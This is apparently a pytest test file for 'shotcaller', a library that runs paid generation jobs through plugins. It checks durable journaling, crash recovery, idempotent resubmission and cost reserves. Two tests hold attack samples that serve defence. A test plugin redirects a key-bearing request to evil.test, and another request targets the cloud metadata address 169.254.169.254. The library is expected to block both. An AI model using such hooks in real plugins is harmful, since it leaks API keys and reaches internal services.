"""What is recorded, sent and paid holds through power cuts, crashes and new plugins."""

from __future__ import annotations

import json
import os
import sqlite3
import stat
from collections.abc import Callable
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from attrs import evolve

from shotcaller import (
    Brief,
    Cancelled,
    Shot,
    Shotcaller,
    ShotcallerError,
    State,
    Take,
    TakeFailed,
)
from shotcaller.drivers.world import authorized
from shotcaller.effects import Send, prepared
from shotcaller.errors import PluginError
from shotcaller.journal import SQLiteJournal
from shotcaller.plugin import (
    Charged,
    Exchange,
    Failed,
    Gateway,
    Model,
    Request,
    Safety,
    Secret,
    Status,
    Ticket,
    hookimpl,
)
from shotcaller.programs.generating import opened
from tests.core.crashes import crashed
from tests.core.paper import API, GATEWAY, Paper
from tests.core.paper_server import PaperServer, say
from tests.core.pictures import png

SHOT = Shot("A paper boat")
ONE = Brief(model="paper/one")


class Leading(Paper):
    """Leads a request with a key in it away."""

    @hookimpl
    def shotcaller_authorize(
        self,
        gateway: Gateway,
        request: Request,
        secrets: dict[str, Secret],
        now: datetime,
    ) -> Request:
        return evolve(request, url="https://evil.test/jobs")


class Failing(Paper):
    """Ends each take without a clip."""

    def __init__(self, charged: Charged, code: str) -> None:
        super().__init__()
        self.failed = Failed("it tore", charged, code)

    @hookimpl
    def shotcaller_poll(self, ticket: Ticket) -> Exchange[Status]:
        yield Request("GET", f"{API}/jobs/{ticket.remote_id}")
        return self.failed


class Renewed(Paper):
    """Is of a version that asks in other words."""

    @hookimpl
    def shotcaller_submit(self, model: Model, shot: Shot, key: str) -> Exchange[Ticket]:
        reply = yield from Request("POST", f"{API}/jobs", json={"text": shot.prompt})
        job: Any = reply.json()
        return Ticket("paper", model.id, job["id"], {"at": f"{API}/jobs"})


def test_the_journal_waits_for_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    connect = sqlite3.connect

    def careless(*args: Any, **named: Any) -> sqlite3.Connection:
        db: sqlite3.Connection = connect(*args, **named)
        try:  # what a build of SQLite may begin with
            db.execute("PRAGMA synchronous = OFF")
        except sqlite3.OperationalError:  # it is an owner's lock, which is held
            db.close()
            raise
        return db

    monkeypatch.setattr(sqlite3, "connect", careless)
    journal = SQLiteJournal(tmp_path)
    found = journal._db.execute("PRAGMA synchronous").fetchone()[0]
    journal.close()

    assert found == 2


def test_a_clip_is_on_disk_before_its_name_and_its_name_before_the_record(
    caller: Shotcaller, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    done: list[tuple[str, int]] = []
    fsync, link = os.fsync, os.link

    def synced(handle: int) -> None:
        fsync(handle)
        found = os.fstat(handle)
        kind = "folder" if stat.S_ISDIR(found.st_mode) else "file"
        done.append((f"{kind} synced", found.st_ino))

    def linked(source: Path, target: Path) -> None:
        link(source, target)
        done.append(("linked", target.stat().st_ino))

    monkeypatch.setattr(os, "fsync", synced)
    monkeypatch.setattr(os, "link", linked)
    states = []
    for take in caller.follow(SHOT, ONE):
        states.append(take.state)
        done.append((str(take.state), 0))
    path = caller.generate(SHOT, ONE).path
    clip = Path(path).stat().st_ino
    receipt = Path(f"{path}.receipt.json").stat().st_ino
    folder = (tmp_path / "clips").stat().st_ino

    assert states[-1] is State.DONE
    assert done[-7:] == [
        ("ready", 0),
        ("file synced", clip),
        ("linked", clip),
        ("folder synced", folder),
        ("file synced", receipt),
        ("folder synced", folder),
        ("done", 0),
    ]


def test_a_plugin_cannot_send_a_key_elsewhere(
    make_caller: Callable[..., Shotcaller],
) -> None:
    world = make_caller(Leading())._world

    with pytest.raises(PluginError) as caught:
        authorized(world, Send("paper", Request("GET", f"{API}/jobs")))

    assert caught.value.message == "The plugin of paper sent a key elsewhere."
    assert caught.value.next == "Report this to its author."


def test_a_file_is_put_in_no_place_that_is_not_public(
    make_caller: Callable[..., Shotcaller],
) -> None:
    world = make_caller()._world

    with pytest.raises(PluginError) as caught:
        authorized(world, Send("paper", Request("PUT", "http://169.254.169.254/x")))

    message = "The plugin of paper asked for a place it may not: http is not https."
    assert caught.value.message == message
    assert caught.value.next == "Nothing was sent there."


@pytest.mark.parametrize(
    ("charged", "code", "ends"),
    [
        ("unknown", "failed", (TakeFailed, State.FAILED)),
        ("no", "cancelled", (Cancelled, State.CANCELLED)),
    ],
)
def test_what_may_have_cost_or_was_not_wanted_never_falls_back(
    make_caller: Callable[..., Shotcaller],
    server: PaperServer,
    charged: Charged,
    code: str,
    ends: tuple[type[ShotcallerError], State],
) -> None:
    error, state = ends
    caller = make_caller(Failing(charged, code))

    with pytest.raises(error) as caught:
        caller.generate(SHOT)

    (take,) = caller.takes()
    assert [model for model, _ in take.candidates] == ["paper/two"]
    assert take.state is state
    assert caught.value.charged == charged
    assert server.routes("POST") == ["/jobs"]


def test_what_was_uploaded_before_a_crash_is_not_uploaded_again(
    caller: Shotcaller, server: PaperServer, tmp_path: Path
) -> None:
    picture = tmp_path / "start.png"
    picture.write_bytes(png())
    shot = Shot("A boat", image=picture)
    take = _uploaded(caller, shot, f"{API}/files/7")

    clip = caller.generate(shot, ONE)

    assert clip.receipt.take == take.id
    assert server.files == []
    assert server.jobs["job-1"]["image"] == f"{API}/files/7"


def _uploaded(caller: Shotcaller, shot: Shot, url: str) -> Take:
    """Returns a take whose process died between its uploads and its submit."""
    folder = str(caller.setup.settings.output)
    run = caller._driver.run(opened(caller.setup.context(), shot, ONE, folder, None))
    try:
        while True:
            next(run)
    except StopIteration as stop:
        take, *_ = stop.value
    journal = caller._world.journal
    take = journal.claim(take.id, at_once=True).take
    assert take.asked.image is not None
    image = evolve(take.asked.image, source=url)
    take = journal.move(prepared(take, evolve(take.asked, image=image)))
    journal.release(take)
    return take


def test_what_is_sent_again_under_a_key_is_what_was_recorded(
    make_caller: Callable[..., Shotcaller], server: PaperServer
) -> None:
    gateway = evolve(GATEWAY, safety=Safety.IDEMPOTENT, key_lives=86_400.0)
    take = crashed(make_caller(Paper(gateway)), reply=False)

    make_caller(Renewed(gateway)).generate(SHOT, ONE)

    (sent,) = [asked for asked in server.asked if asked.method == "POST"]
    assert json.loads(sent.body) == {
        "prompt": SHOT.prompt,
        "model": "paper/one",
        "key": take.key,
    }


def test_an_heir_has_a_reserve_of_its_own(
    caller: Shotcaller, server: PaperServer
) -> None:
    server.script["POST /jobs"] = [say(402)]

    clip = caller.generate(SHOT)

    chain = caller.chain(clip.receipt.take)
    reserved = [(take.model, take.reserved) for take in chain]
    assert reserved == [
        ("paper/one", Decimal("0.50")),
        ("paper/two", Decimal("0.25")),
    ]
